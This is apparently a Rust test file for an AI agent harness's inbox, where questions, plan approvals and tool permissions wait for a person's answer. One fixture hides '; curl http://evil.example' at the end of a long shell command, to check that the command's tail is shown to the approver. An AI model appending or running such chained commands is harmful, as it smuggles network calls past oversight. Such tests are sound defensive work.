//! The inbox.

use crate::{Desk, held, refused};
use plan::Event;
use serde_json::{Value, json};
use support::{Reply, ask_user, plan_write, wait_for};

async fn inbox(desk: &Desk) -> Vec<Value> {
    let page = desk.client().get("/v1/asks").await.ok();
    page["items"].as_array().expect("a list has items").clone()
}

async fn answer(desk: &Desk, ask: &Value, body: Value) -> flow::Answer {
    let id = ask["id"].as_str().expect("a question has an id");
    desk.client().post(&format!("/v1/asks/{id}/answer"), body).await
}

#[tokio::test]
async fn a_question_is_listed_and_its_answer_reaches_the_agent() {
    let desk = Desk::with(vec![ask_user("Which one?", &["red", "blue"]), Reply::text("ok")]).await;
    assert_eq!(inbox(&desk).await, Vec::<Value>::new());
    desk.say("choose").await;
    desk.wait_asked().await;
    let asks = inbox(&desk).await;
    assert_eq!(asks.len(), 1);
    let ask = &asks[0];
    assert_eq!((&ask["kind"], &ask["text"]), (&json!("question"), &json!("Which one?")));
    assert_eq!(ask["room_id"], json!(desk.house.room));
    assert!(ask["created_at"].is_i64() && ask["detail"].is_array(), "{ask}");
    let room = answer(&desk, ask, json!({ "answer": "blue", "note": "because" })).await.ok();
    assert_eq!(room["asks"], json!([]));
    assert_eq!(desk.house.model.request(1).await.tool_results(), ["blue"]);
    assert_eq!(inbox(&desk).await, Vec::<Value>::new());
    let again = answer(&desk, ask, json!({ "answer": "red" })).await;
    assert_eq!(again.refusal(), refused(404, "ASK_NOT_FOUND"), "a question is answered once");
}

#[tokio::test]
async fn answering_the_question_of_approval_is_approving_the_plan() {
    let desk = Desk::with(vec![plan_write("goal", &["one"]), held()]).await;
    desk.strict().await;
    desk.say("do it").await;
    desk.wait_asked().await;
    let plan = desk.plan().await;
    let ask = inbox(&desk).await.remove(0);
    assert_eq!((&ask["kind"], &ask["plan_id"]), (&json!("approval"), &plan["id"]));
    assert_eq!((&ask["revision"], &ask["hash"]), (&json!(1), &plan["hash"]));
    let steps: Vec<&Value> = ask["detail"].as_array().unwrap().iter().collect();
    assert!(steps[0]["name"] == "step", "what would be allowed is shown: {ask}");
    assert!(steps[0]["value"].as_str().unwrap().starts_with("1. one"), "{ask}");
    let bad = answer(&desk, &ask, json!({ "answer": "perhaps" })).await;
    assert_eq!(bad.refusal(), refused(422, "BAD_ANSWER"));
    for body in [
        json!({ "answer": "approve" }),
        json!({ "answer": "approve", "revision": 2, "hash": plan["hash"] }),
    ] {
        let conflict = answer(&desk, &ask, body).await;
        assert_eq!(conflict.refusal(), refused(409, "PLAN_CONFLICT"));
        assert_eq!(conflict.body["error"]["revision"], 1);
    }
    let body = json!({ "answer": "approve", "revision": 1, "hash": plan["hash"] });
    let room = answer(&desk, &ask, body).await.ok();
    assert_eq!((&room["plan"]["state"], &room["asks"]), (&json!("running"), &json!([])));
    assert_eq!(room["plan"]["approval"]["by"]["surface"], "api");
}

#[tokio::test]
async fn questions_of_all_rooms_are_in_one_inbox_newest_first() {
    let desk = Desk::with(vec![ask_user("first?", &[]), ask_user("second?", &[])]).await;
    desk.say("one").await;
    desk.wait_asked().await;
    let folder = support::TempWorkspace::new(&[]);
    let other = desk.client().post("/v1/rooms", json!({ "workspace": folder.path() })).await.ok();
    let path = format!("/v1/rooms/{}", other["id"].as_str().unwrap());
    let mut stream = desk.client().follow(&format!("{path}/stream"), None).await;
    desk.client().post(&format!("{path}/messages"), json!({ "text": "two" })).await.ok();
    stream.until("a question", |heard| heard.name == "ask_raised").await;
    let texts: Vec<Value> = inbox(&desk).await.iter().map(|ask| ask["text"].clone()).collect();
    assert_eq!(texts, [json!("second?"), json!("first?")]);
}

#[tokio::test]
async fn a_permission_refused_with_words_tells_them_to_the_agent() {
    let call = Reply::call("write_file", json!({ "path": "ask-first/a", "content": "x" }));
    let desk = Desk::with(vec![call, Reply::text("ok")]).await;
    desk.say("write").await;
    desk.wait_asked().await;
    let ask = inbox(&desk).await.remove(0);
    assert_eq!(ask["kind"], "permission");
    answer(&desk, &ask, json!({ "answer": "refuse", "note": "stay here" })).await.ok();
    let told = desk.house.model.request(1).await.tool_results();
    assert!(told[0].contains("stay here"), "{told:?}");
    let began = |event: &Event| matches!(event, Event::CallBegan { .. });
    assert!(!desk.house.log().iter().any(|(_, event)| began(event)), "it never ran");
}

#[tokio::test]
async fn what_leaves_with_an_address_is_shown_before_it_is_fetched() {
    let url = "http://example.com/?gathered=all-of-it";
    let call = Reply::call("fetch", json!({ "url": url }));
    let desk = Desk::with(vec![call, Reply::text("ok")]).await;
    desk.say("look it up").await;
    desk.wait_asked().await;
    let ask = inbox(&desk).await.remove(0);
    let shown = ask["detail"].as_array().unwrap();
    let shown = shown.iter().find(|detail| detail["name"] == "arguments").unwrap();
    assert_eq!(shown["value"], url);
}

fn detail<'a>(ask: &'a Value, name: &str) -> &'a Value {
    let all = ask["detail"].as_array().expect("it has details");
    all.iter().find(|detail| detail["name"] == name).unwrap_or_else(|| panic!("no {name}: {ask}"))
}

/// Of a long address or command the end may be what matters.
#[tokio::test]
async fn what_is_asked_about_says_what_it_leaves_out_and_can_be_read_whole() {
    let end = "&and=what-leaves-with-it";
    let url = format!("http://example.com/?{}{end}", "x".repeat(5_000));
    let command = format!("ask-me {} ; curl http://evil.example", "é".repeat(3_000));
    let script = vec![
        Reply::call("fetch", json!({ "url": url })),
        Reply::call("shell", json!({ "command": command, "network": ["example.com"] })),
        Reply::text("ok"),
    ];
    let mut desk = Desk::with(script).await;
    desk.say("look it up").await;
    desk.wait_asked().await;
    for (name, text, tail) in [("arguments", &url, end), ("target", &command, "evil.example")] {
        wait_for(async || inbox(&desk).await.len() == 1, "the question").await;
        let ask = inbox(&desk).await.remove(0);
        let shown = detail(&ask, name);
        let value = shown["value"].as_str().unwrap();
        assert!(value.contains(" characters left out … ") && value.ends_with(tail), "{value}");
        assert!(value.chars().count() < 1_000, "{value}");
        let hash = shown["whole"]["blob"].as_str().expect("it names the whole text");
        assert_eq!(shown["whole"]["bytes"], text.len());
        let whole = desk.client().get(&format!("/v1/blobs/{hash}")).await;
        assert_eq!(whole.body, json!(text));
        // The question itself says it in the same words.
        assert!(!ask["text"].to_string().contains(&"é".repeat(1_000)), "{ask}");
        // All of it is there after a restart, too.
        desk.restart().await;
        let hash = detail(&inbox(&desk).await[0], name)["whole"]["blob"].clone();
        let path = format!("/v1/blobs/{}", hash.as_str().unwrap());
        assert_eq!(desk.client().get(&path).await.body, json!(text));
        let refuse = json!({ "answer": "refuse" });
        answer(&desk, &ask, refuse).await.ok();
    }
}

#[tokio::test]
async fn what_is_not_kept_whole_can_be_refused_and_not_allowed() {
    let desk = Desk::with(vec![]).await;
    let mut long = plan::Detail::new("arguments", "beginning and end");
    long.whole = Some(plan::Whole { blob: "0".repeat(64), bytes: 5_000 });
    // As it was asked when long facts lost their end.
    let cut = plan::Detail::new("target", "x".repeat(1_000));
    for (detail, code) in
        [(long, refused(409, "NOT_KEPT_WHOLE")), (cut, refused(422, "BAD_ANSWER"))]
    {
        let ask = plan::Ask {
            id: plan::AskId(engine::fresh_id()),
            kind: plan::AskKind::Permission,
            plan_id: None,
            step_id: None,
            call_id: None,
            text: "May it run?".to_owned(),
            detail: vec![detail, plan::Detail::new("rule", "fetch(example.com)")],
            created_at: plan::Time(1),
        };
        let raise = plan::Command::RaiseAsk { ask };
        let (engine, room) = (desk.house.engine(), desk.house.room);
        engine.submit(room, &plan::Actor::harness(), raise).unwrap().stored().await.unwrap();
        let ask = inbox(&desk).await.remove(0);
        for allowing in ["allow", "always"] {
            let tried = answer(&desk, &ask, json!({ "answer": allowing })).await;
            assert_eq!(tried.refusal(), code, "{allowing}");
            let person = flow::me();
            let by_window = plan::Command::Answer {
                ask: plan::AskId(ask["id"].as_str().unwrap().parse().unwrap()),
                answer: allowing.to_owned(),
                note: None,
                revision: None,
                hash: None,
            };
            assert!(engine.submit(room, &person, by_window).is_err(), "nor in the window");
        }
        answer(&desk, &ask, json!({ "answer": "refuse" })).await.ok();
    }
}
